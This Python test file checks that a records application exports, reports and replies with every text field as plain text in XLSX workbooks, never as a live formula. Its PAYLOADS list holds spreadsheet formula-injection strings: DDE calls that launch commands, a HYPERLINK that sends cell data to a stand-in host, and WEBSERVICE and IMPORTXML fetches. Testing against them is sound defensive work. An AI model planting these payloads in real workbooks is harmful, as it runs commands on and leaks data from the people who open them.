"""Texts that a spreadsheet would compute leave as texts in every workbook, and come back as they are."""

import re
import zipfile
from collections.abc import Iterator
from io import BytesIO
from itertools import product
from pathlib import Path

import msoffcrypto
import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from desktop.domain.calendar import Quarter
from desktop.domain.codelists import CodeItem
from desktop.domain.fields import Code, Field, Link, Name, NationalId, Phone, Text
from desktop.domain.language import LANGUAGES, Message
from desktop.exchange.targets.kinds import ALL_KINDS
from desktop.operations.codelists import add_codes
from desktop.operations.exporting import ListAsked, export_blank, export_list, names_people, names_that_return
from desktop.operations.forms.filling import FormAsked, fill_form
from desktop.operations.forms.looking import look_at_form
from desktop.operations.imports import accept_import, prepare_import, read_file
from desktop.operations.imports.replying import reply_to
from desktop.operations.reporting.producing import ReportAsked, produce_report
from desktop.registers import REGISTERS, register
from tests.operations.district import content, identify, keep_child, take_in
from tests.operations.forms.small import list_form
from tests.registers.filled import whole_records

_BEGINNINGS = ("=", "+", "-", "@", "=+", "==", "'=", '"=', "＝", "|", "%", "=-", "{=", ",=")
_BODIES = (
    "1+1", "A1", "SUM(A1:A9)", 'HYPERLINK("http://a.b/?x="&A1,"Press")', "cmd|' /C calc'!A0", "2+5+cmd|' /C calc'!A0",
    'IMPORTXML("http://a.b","//c")', 'WEBSERVICE("http://a.b")', 'DDE("cmd";"/C calc";"1")', "MSEXCEL|'\\..\\calc'!''",
    "@SUM(1,2)*cmd|' /C calc'!A0", "_x003D_1+1", "]]><f>1+1</f>", "</t></is><f>1+1</f>", "IFERROR(1/0,\"\")",
)  # fmt: skip
PAYLOADS = tuple(beginning + body for beginning, body in product(_BEGINNINGS, _BODIES))
PASSWORD = "ikawa n'amata"
_SOUND = {"households": {"ubudehe_scheme": None, "ubudehe": None}}
"""What the rules between fields ask for."""


def test_there_are_two_hundred_of_them() -> None:
    assert len(set(PAYLOADS)) >= 200


def payload(field: Field, number: int) -> str:
    """The payload of a record in a field; a name has no digits in it."""
    text = PAYLOADS[number % len(PAYLOADS)]
    return re.sub(r"\d", "x", text) if isinstance(field, Name) else text


def texts_of(key: str) -> list[Field]:
    return [one for one in register(key).stored().values() if isinstance(one, Text) and not one.automatic]


def fill(session, key: str, count: int) -> None:
    """Write as many records, each with its payload in every text."""
    declared = register(key).stored()
    known = {name: value for name, value in whole_records(REGISTERS)[key].items() if name in declared}
    left = [name for name, one in declared.items() if isinstance(one, (Code, NationalId, Phone, Link))]
    with session.file.change(Message("Filled"), session.user) as writing:
        for number in range(count):
            texts = {one.name: payload(one, number) for one in texts_of(key)}
            writing.create(key, {**known, **dict.fromkeys(left), **texts, **_SOUND.get(key, {})})


def parts(path: Path, password: str = "") -> zipfile.ZipFile:
    if not password:
        return zipfile.ZipFile(path)
    with path.open("rb") as file:
        protected, opened = msoffcrypto.OfficeFile(file), BytesIO()
        protected.load_key(password=password)
        protected.decrypt(opened)
    return zipfile.ZipFile(opened)


def formulas(path: Path, password: str = "") -> Iterator[str]:
    """Every formula that a workbook has in its cells."""
    with parts(path, password) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                yield from re.findall(r"<f\b[^>]*>(.*?)</f>", archive.read(name).decode("utf-8"), re.DOTALL)


def texts(path: Path, password: str = "") -> set[str]:
    """Every text that a workbook shows in its cells; none of them is a formula."""
    with parts(path, password) as archive:
        opened = BytesIO()
        with zipfile.ZipFile(opened, "w") as copy:
            for name in archive.namelist():
                copy.writestr(name, archive.read(name))
    book = openpyxl.load_workbook(opened)
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row)
    return {unescape(cell.value) for cell in cells if cell.data_type == "s"}  # as Excel reads its own codes


@pytest.mark.parametrize("key", [one.key for one in REGISTERS if texts_of(one.key)])
def test_every_text_of_every_list_leaves_as_text(gasabo, tmp_path, key):
    fill(gasabo, key, len(PAYLOADS))
    password = PASSWORD if names_people(key) else ""
    done = export_list(gasabo, ListAsked(key, tmp_path / "out.xlsx", password=password))
    assert list(formulas(done.path, password)) == []
    returning = [one for one in texts_of(key) if one.name in names_that_return(key)]
    wanted = {payload(one, number) for one in returning for number in range(len(PAYLOADS))}
    assert returning
    assert wanted - texts(done.path, password) == set()


@pytest.mark.parametrize("key", ["people", "households", "partners", "activities", "recommendations", "bodies"])
def test_a_list_of_them_comes_back_and_changes_nothing(gasabo, tmp_path, key):
    fill(gasabo, key, 40)
    before = content(gasabo)
    done = export_list(gasabo, ListAsked(key, tmp_path / "out.xlsx"))
    back = take_in(gasabo, done.path)
    assert (back.change, back.totals_.unchanged) == ("", 40)
    assert content(gasabo) == before


@pytest.fixture
def named(gasabo):
    """A district of children and a label that are called so."""
    for number in range(0, len(PAYLOADS), 6):
        name = payload(register("people").fields["family_name"], number)
        child = keep_child(gasabo, family_name=name, other_names=None, caregiver_name=name)
        if number % 4 == 0:
            approved = identify(gasabo, child)
            with gasabo.file.change(Message("Approved"), gasabo.user) as writing:
                writing.change("identifications", approved, {"stage": "SECTOR"})
    with gasabo.file.change(Message("Added"), gasabo.user):
        add_codes(gasabo, [CodeItem("school_level", "EVIL", dict(zip(LANGUAGES, PAYLOADS, strict=False)))])
    return gasabo


def test_reports_and_filled_forms_hold_them_as_text(named, tmp_path):
    quarter = Quarter(2026, 1)
    listed = produce_report(named, ReportAsked("ovc-list", quarter, tmp_path / "r1.xlsx")).path
    form = look_at_form(named, list_form(tmp_path), quarter)
    filled = fill_form(named, FormAsked(form, tmp_path / "filled.xlsx")).path
    for path in (listed, filled):
        found = texts(path)
        assert {one for one in found if one.startswith(_BEGINNINGS)}
        # Its total is a formula of our own.
        assert {re.sub(r"\d+", "9", one) for one in formulas(path)} <= {"SUM(T9:T9)"}


def test_a_blank_workbook_offers_them_as_text(named, tmp_path):
    for key in sorted({kind.register for kind in ALL_KINDS}):
        path = export_blank(named, key, tmp_path / f"{key}.xlsx", "en")
        assert list(formulas(path)) == []
    assert {*PAYLOADS[:3]} & texts(tmp_path / "people.xlsx")


def test_a_reply_holds_them_as_text(gasabo, tmp_path):
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["Full name", "Sex", "Date of birth", "Village", "Remarks"])
    for number, text in enumerate(PAYLOADS):
        name = payload(register("people").fields["family_name"], number)
        for column, value in enumerate((name, "F", "12/03/2015", text, text), 1):
            cell = sheet.cell(number + 2, column, value)
            cell.data_type = "s"
    book.save(tmp_path / "sent.xlsx")
    planned = prepare_import(gasabo, read_file(gasabo, tmp_path / "sent.xlsx"))
    done = accept_import(gasabo, planned)
    replied = reply_to(gasabo, planned, done, tmp_path / "reply.xlsx", ("en", None))
    assert list(formulas(replied.path)) == []
    sent = {text for text in PAYLOADS if "_x003D_" not in text}  # in what was sent, Excel itself reads this as =
    assert sent - texts(replied.path) == set()
